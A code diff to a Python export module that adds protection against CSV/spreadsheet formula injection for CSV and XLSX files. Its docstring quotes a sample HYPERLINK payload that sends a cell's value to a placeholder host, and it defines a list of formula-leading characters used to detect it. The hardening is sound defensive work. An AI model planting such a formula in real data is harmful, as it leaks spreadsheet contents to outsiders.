@@ -1,4 +1,8 @@
-"""Pure builders: header and rows in, file bytes out (no database, no request)."""
+"""Pure builders: header and rows in, file bytes out (no database, no request).
+
+Every text cell of every export passes through here and is neutralised against formula injection
+(OWASP, "CSV injection"): a name such as `=HYPERLINK("http://x/?"&A2,"y")` typed by an applicant must
+reach the secretariat's spreadsheet as text, never as a live formula. Numbers stay numbers."""
 
 import csv
 import io
@@ -8,20 +12,42 @@ from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 
+# A spreadsheet reads a cell starting with one of these as a formula (or, for tab, CR and LF, skips them
+# and reads the next character as the start); the full-width forms are folded to ASCII by some versions.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+def is_formula_like(value) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_LEADS)
+
+
+def csv_text(value):
+    """A CSV cell: a formula-like text gets a leading `'` (shown by Excel as text, never evaluated)."""
+    return "'" + value if is_formula_like(value) else value
+
+
+def _xlsx_cell(sheet, value, *, bold: bool = False):
+    """A plain value, or a cell: a formula-like text is written as a string cell with Excel's quote prefix
+    (openpyxl would otherwise store a text starting with `=` as a formula)."""
+    if not (bold or is_formula_like(value)):
+        return value
+    cell = WriteOnlyCell(sheet, value=value)
+    if is_formula_like(value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    if bold:
+        cell.font = Font(bold=True)
+    return cell
+
 
 def xlsx(sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
     """One worksheet per (title, header, rows), in openpyxl's write-only mode (constant memory)."""
     workbook = Workbook(write_only=True)
     for title, header, rows in sheets:
         sheet = workbook.create_sheet(title=title[:31])
-        bold = []
-        for name in header:
-            cell = WriteOnlyCell(sheet, value=name)
-            cell.font = Font(bold=True)
-            bold.append(cell)
-        sheet.append(bold)
+        sheet.append([_xlsx_cell(sheet, name, bold=True) for name in header])
         for row in rows:
-            sheet.append(list(row))
+            sheet.append([_xlsx_cell(sheet, value) for value in row])
     out = io.BytesIO()
     workbook.save(out)
     return out.getvalue()
@@ -31,6 +57,6 @@ def csv_bytes(header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
     """UTF-8 with a byte-order mark so that Excel shows Vietnamese correctly."""
     text = io.StringIO()
     writer = csv.writer(text)
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([csv_text(name) for name in header])
+    writer.writerows([csv_text(value) for value in row] for row in rows)
     return ("\ufeff" + text.getvalue()).encode("utf-8")
